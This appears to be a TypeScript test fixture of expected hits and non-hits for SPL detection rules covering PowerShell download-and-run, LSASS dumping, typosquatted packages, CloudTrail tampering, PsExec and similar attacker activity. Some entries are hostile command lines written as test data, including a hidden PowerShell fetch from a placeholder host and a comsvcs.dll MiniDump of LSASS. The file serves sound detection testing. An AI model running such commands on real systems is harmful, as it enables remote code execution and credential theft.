/** What the SPL rules must find in the samples. */
import type { RowExpectation } from './rows.ts'

export const splExpectations: readonly RowExpectation[] = [
  {
    rule: 'abused-web-service-query',
    column: 'QueryName',
    finds: ['a41c-203-0-113-66.ngrok.example.test', 'pastebin.com'],
    leaves: [['media.discordapp.com', 'the chat program at its own service']],
  },
  {
    rule: 'attachment-then-script-host',
    column: 'process',
    finds: ['wscript.exe order.js from the order'],
    leaves: [
      ['cmd.exe /c got a picture only', 'no document came by mail'],
      ['splwow64.exe prints the report', 'no script host'],
    ],
  },
  {
    rule: 'aws-trail-stopped',
    column: 'eventName',
    finds: ['DeleteTrail', 'StopLogging'],
    leaves: [['StartLogging', 'logging is switched on, not off']],
  },
  {
    rule: 'click-then-program',
    column: 'process',
    finds: [
      'mshta.exe sixty seconds to the dot',
      'powershell.exe -w hidden -c "iwr https://invoice-portal.example.net/a"',
    ],
    leaves: [
      ['cmd.exe /c a second too late', '61 seconds after the page'],
      ['cmd.exe /c mail from inside', 'no page went through the proxy'],
      ['curl.exe after a blocked click', 'the proxy refused the page'],
    ],
  },
  {
    rule: 'failed-logons-then-success',
    column: 'user',
    finds: ['corp\\it-admin'],
    leaves: [
      ['user39', 'the logon that succeeds comes half an hour later'],
      ['user40', 'nine failures'],
    ],
  },
  {
    rule: 'long-dns-labels',
    column: 'parent',
    finds: ['sync.example.test'],
    leaves: [['europe-west1-b.c.example-build-1103.internal', 'one query']],
  },
  {
    rule: 'lsass-dump-command',
    column: 'process',
    finds: ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\d full'],
    leaves: [['rundll32.exe printui.dll,PrintUIEntry /il', 'prints']],
  },
  {
    rule: 'many-files-renamed',
    column: 'dest',
    finds: ['fs03'],
    leaves: [
      ['fs04', '180 files'],
      ['fs05', '240 files in two minutes'],
      ['fs06', 'an account of a machine'],
    ],
  },
  {
    rule: 'misspelt-python-package',
    column: 'package_name',
    finds: ['Colourama', 'numppy', 'reqeusts'],
    leaves: [['requests', 'spelt as it should be']],
  },
  {
    rule: 'office-starts-script-host',
    column: 'process_name',
    finds: ['cmd.exe', 'powershell.exe', 'wscript.exe'],
    leaves: [['splwow64.exe', 'prints']],
  },
  {
    rule: 'powershell-fetch-and-run',
    column: 'url',
    finds: ['http://files.example.test/stage/notes.txt'],
    leaves: [
      ['https://intranet.corp.example.com/roster.csv', 'fetched, not run'],
      ['function Update-Help', 'names no address'],
    ],
  },
  {
    rule: 'program-or-file-by-name',
    column: 'name',
    finds: ['archiver.exe', 'hostmon.exe'],
    leaves: [['MonitoringHost.exe', 'a name that only looks alike']],
  },
  {
    rule: 'remote-execution-program',
    column: 'process_name',
    finds: ['PSEXESVC.exe', 'PsExec64.exe', 'wmic.exe'],
    leaves: [['wmic os get caption /nodes', 'names no other machine']],
  },
]
